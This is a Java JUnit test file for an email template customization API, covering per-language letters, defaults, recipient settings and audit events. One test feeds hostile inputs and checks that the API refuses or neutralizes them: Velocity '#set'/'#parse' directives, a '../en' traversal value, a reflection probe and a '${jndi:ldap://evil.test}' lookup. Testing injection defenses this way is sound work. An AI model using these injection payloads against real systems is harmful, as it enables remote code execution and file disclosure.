package gatehouse.platform.email;

import static org.assertj.core.api.Assertions.assertThat;

import gatehouse.kernel.outside.Mail;
import gatehouse.testkit.Reply;
import gatehouse.testkit.TestOrg;
import java.util.List;
import org.junit.jupiter.api.Test;

class CustomizationsTest {
    private final TestOrg org = TestOrg.fresh();
    private final String brand = org.get("/api/v1/brands").is(200).all("/id").getFirst();
    private final String path = "/api/v1/brands/" + brand + "/templates/email/UserActivation";

    private static String body(String language, boolean byDefault, String subject, String body) {
        return "{\"language\": \"%s\", \"isDefault\": %s, \"subject\": \"%s\", \"body\": \"%s\"}"
                .formatted(language, byDefault, subject, body);
    }

    private Reply made(String language, boolean byDefault, String subject) {
        return org.post(
                path + "/customizations",
                body(
                        language,
                        byDefault,
                        subject,
                        "<p>${user.profile.firstName}</p><p><a href='${activationLink}'>Go</a></p>"));
    }

    private Mail invited(String login, String language) {
        org.post(
                        "/api/v1/users",
                        """
                        {"profile": {"firstName": "<b>Ann", "lastName": "Lee", "email": "%1$s",
                         "login": "%1$s", "preferredLanguage": "%2$s"}}\
                        """
                                .formatted(login, language))
                .is(200);
        return org.mails().getLast();
    }

    @Test
    void templates_are_listed_with_what_becomes_of_them() {
        var all = org.get("/api/v1/brands/" + brand + "/templates/email").is(200);
        assertThat(all.all("/name")).contains("ForgotPassword", "UserActivation");
        assertThat(all.json().path(0).has("_embedded")).isFalse();
        made("en", true, "Hi").is(201);
        var one = org.get(path + "?expand=settings,customizationCount").is(200);
        assertThat(one.json().at("/_embedded/customizationCount").asInt()).isOne();
        assertThat(one.text("/_embedded/settings/recipients")).isEqualTo("ALL_USERS");
        org.get(path.replace("UserActivation", "NoSuchLetter")).is(404, "E0000007");
        org.get(path.replace(brand, "bnd00000000000000000")).is(404, "E0000007");
        var own = org.get(path + "/default-content?language=de").is(200);
        assertThat(own.text("/subject")).isEqualTo("Aktivieren Sie Ihr Konto");
        assertThat(own.text("/body")).contains("${activationLink}");
        assertThat(org.get(path + "/default-content/preview").is(200).text("/body"))
                .doesNotContain("${");
    }

    @Test
    void letters_are_written_as_the_org_wants_in_the_reader_s_language() {
        made("en", true, "Welcome to ${org.name}").is(201);
        made("de-CH", false, "Grüezi").is(201);
        made("fr", false, "Bienvenue").is(201);
        assertThat(invited("a@x.test", "de-CH").subject()).isEqualTo("Grüezi");
        assertThat(invited("b@x.test", "fr-CA").subject()).isEqualTo("Bienvenue");
        var mail = invited("c@x.test", "es");
        assertThat(mail.subject()).isEqualTo("Welcome to " + org.host());
        assertThat(mail.html()).contains("<p>&lt;b&gt;Ann</p>").contains("href='http://");
        assertThat(mail.text()).contains("<b>Ann").contains("Go:\nhttp://" + org.host());
        org.delete(path + "/customizations").is(204);
        assertThat(invited("d@x.test", "es").subject()).isEqualTo("Active su cuenta");
    }

    @Test
    void a_letter_has_one_text_a_language_and_one_for_all_others() {
        var first = made("en", false, "One").is(201);
        assertThat(first.json().path("isDefault").asBoolean()).isTrue();
        made("EN", false, "Two").is(409, "E0000183");
        var second = made("de", true, "Two").is(201);
        var at = path + "/customizations/";
        assertThat(org.get(at + first.id()).json().path("isDefault").asBoolean()).isFalse();
        org.delete(at + second.id()).is(409, "E0000184");
        var link = "<a href='${activationLink}'>x</a>";
        org.put(at + second.id(), body("de", false, "s", link)).is(409, "E0000185");
        org.put(at + second.id(), body("en", true, "s", link)).is(409, "E0000183");
        assertThat(org.put(at + second.id(), body("it", true, "s", link)).is(200).text("/language"))
                .isEqualTo("it");
        org.delete(at + first.id()).is(204);
        assertThat(org.get(path + "/customizations").is(200).all("/language"))
                .containsExactly("it");
        assertThat(org.get(at + second.id() + "/preview").is(200).text("/body"))
                .contains("href='http://" + org.host());
        assertThat(org.events())
                .contains(
                        "system.email.template.create",
                        "system.email.template.update",
                        "system.email.template.delete");
    }

    @Test
    void what_would_say_nothing_or_run_something_is_refused() {
        var link = "<a href='${activationLink}'>x</a>";
        record Case(String body, String error) {}
        for (var one :
                List.of(
                        new Case(body("en", true, "", link), "E0000001"),
                        new Case(body("en", true, "s", ""), "E0000001"),
                        new Case(body("en", true, "s", "no link"), "E0000001"),
                        new Case(body("en", true, "s", link + "#if($x)"), "E0000001"),
                        new Case(body("en", true, "s", link + "#set ($x = 1)"), "E0000001"),
                        new Case(body("en", true, "s", link + "#parse(\\\"/etc\\\")"), "E0000001"),
                        new Case(body("", true, "s", link), "E0000236"),
                        new Case(body("not a tag", true, "s", link), "E0000236"),
                        new Case(body("../en", true, "s", link), "E0000236"))) {
            org.post(path + "/customizations", one.body()).is(400, one.error());
        }
        var odd = link + "${user.class.forName('x')} $user.login ${jndi:ldap://evil.test}";
        org.post(path + "/customizations", body("en", true, "s ${nothing}", odd)).is(201);
        var mail = invited("a@x.test", "en");
        assertThat(mail.subject()).isEqualTo("s ");
        assertThat(mail.html()).contains("${user.class.forName('x')}", "$user.login");
    }

    @Test
    void an_org_says_whom_a_letter_goes_to() {
        org.put(path + "/settings", "{\"recipients\": \"NO_USERS\"}").is(200);
        assertThat(org.get(path + "/settings").is(200).text("/recipients")).isEqualTo("NO_USERS");
        org.post(
                        "/api/v1/users",
                        """
                        {"profile": {"firstName": "Ann", "lastName": "Lee", "email": "a@x.test",
                         "login": "a@x.test"}}\
                        """)
                .is(200);
        assertThat(org.mails()).isEmpty();
        org.put(path + "/settings", "{\"recipients\": \"SOME\"}").is(400, "E0000001");
        org.put(
                        path.replace("UserActivation", "ForgotPassword") + "/settings",
                        "{\"recipients\": \"NO_USERS\"}")
                .is(422, "E0000189");
        org.put(path + "/settings", "{\"recipients\": \"ADMINS_ONLY\"}").is(200);
        assertThat(org.events()).contains("system.email.template.settings_changed");
    }
}
